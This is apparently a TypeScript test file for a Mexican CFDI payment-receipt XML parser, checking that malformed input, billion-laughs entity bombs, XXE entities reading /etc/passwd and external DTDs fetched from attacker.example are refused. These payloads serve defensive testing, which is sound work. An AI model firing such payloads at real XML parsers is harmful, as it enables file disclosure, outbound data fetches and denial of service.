import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCfdiPaymentReceipt } from '../../shared/domain/receivables/cfdi-receipt.js';
import { MAX_CFDI_XML_BYTES } from '../../shared/domain/receivables/cfdi-xml.js';
import { receiptXml, toBase64 } from './fixtures/cfdi-receipts.js';

const reasonOf = (base64: string) => {
  const result = parseCfdiPaymentReceipt(base64);
  return result.ok ? 'ok' : result.reason;
};

const validXml = receiptXml({ payments: [{ amount: '10.00', documents: [{ paid: '10.00' }] }] });
/** A valid receipt with `prologue` between the XML declaration and the root element. */
const withPrologue = (prologue: string) => validXml.replace('?>\n', `?>\n${prologue}\n`);

describe('malformed input', () => {
  it('refuses what is not base64', () => {
    for (const input of ['', '   ', 'not base64!', 'PD94bWw', 'PD94bWw-_w==', '====', `${toBase64(validXml)}!`]) {
      expect(reasonOf(input), input).toBe('not_base64');
    }
  });

  it('refuses base64 of something that is not XML', () => {
    expect(reasonOf(toBase64('hello, world'))).toBe('not_xml');
    expect(reasonOf(toBase64('{"xml": true}'))).toBe('not_xml');
    expect(reasonOf(toBase64(validXml.slice(0, -20)))).toBe('not_xml'); // truncated
    expect(reasonOf(Buffer.from([0xff, 0xfe, 0x00, 0x3c, 0x00, 0x61]).toString('base64'))).toBe('not_xml'); // not UTF-8
    expect(reasonOf(toBase64('<a/><b/>'))).toBe('not_xml'); // two roots
  });

  it('refuses an undeclared entity and a bare ampersand', () => {
    expect(reasonOf(toBase64(validXml.replace('AB CALSA &amp; ASOCIADOS', 'AB CALSA &lol; ASOCIADOS')))).toBe('not_xml');
    expect(reasonOf(toBase64(validXml.replace('AB CALSA &amp; ASOCIADOS', 'AB CALSA & ASOCIADOS')))).toBe('not_xml');
  });

  it('decodes character references in attributes (each to one character)', () => {
    const result = parseCfdiPaymentReceipt(toBase64(validXml.replace('AB CALSA &amp; ASOCIADOS', 'PE&#209;A &#x26; CO')));
    expect(result.ok && result.receipt.recipient.name).toBe('PEÑA & CO');
  });
});

describe('hostile XML is refused before it can expand or reach out', () => {
  it('refuses a billion-laughs bomb without expanding it', () => {
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const bomb = withPrologue(`<!DOCTYPE lolz [<!ENTITY lol0 "lol">${lols}]>`).replace('AB CALSA &amp; ASOCIADOS', '&lol9;');
    expect(reasonOf(toBase64(bomb))).toBe('forbidden_dtd');
  });

  it('refuses an external entity (XXE) and an external DTD', () => {
    const xxe = withPrologue('<!DOCTYPE cfdi [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('AB CALSA &amp; ASOCIADOS', '&xxe;');
    expect(reasonOf(toBase64(xxe))).toBe('forbidden_dtd');
    expect(reasonOf(toBase64(withPrologue('<!DOCTYPE cfdi SYSTEM "http://attacker.example/evil.dtd">')))).toBe('forbidden_dtd');
    expect(reasonOf(toBase64(withPrologue('<!doctype cfdi [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>')))).toBe('forbidden_dtd');
  });

  it('refuses an input over the size limit before decoding it', () => {
    const padding = ' '.repeat(MAX_CFDI_XML_BYTES);
    expect(reasonOf(toBase64(validXml.replace('</cfdi:Comprobante>', `${padding}</cfdi:Comprobante>`)))).toBe('too_large');
    expect(reasonOf('A'.repeat(MAX_CFDI_XML_BYTES * 2))).toBe('too_large');
  });

  it('refuses absurd nesting as bad input, not a crash', () => {
    const deep = `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`;
    expect(['not_xml', 'not_cfdi']).toContain(reasonOf(toBase64(deep)));
  });

  it('never throws, whatever the string', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string().map(toBase64), fc.constantFrom(validXml).chain((xml) =>
        fc.tuple(fc.nat(xml.length), fc.string()).map(([at, junk]) => toBase64(xml.slice(0, at) + junk + xml.slice(at))))), (input) => {
        const result = parseCfdiPaymentReceipt(input);
        expect(typeof result.ok).toBe('boolean');
      }),
      { numRuns: 300 },
    );
  });
});
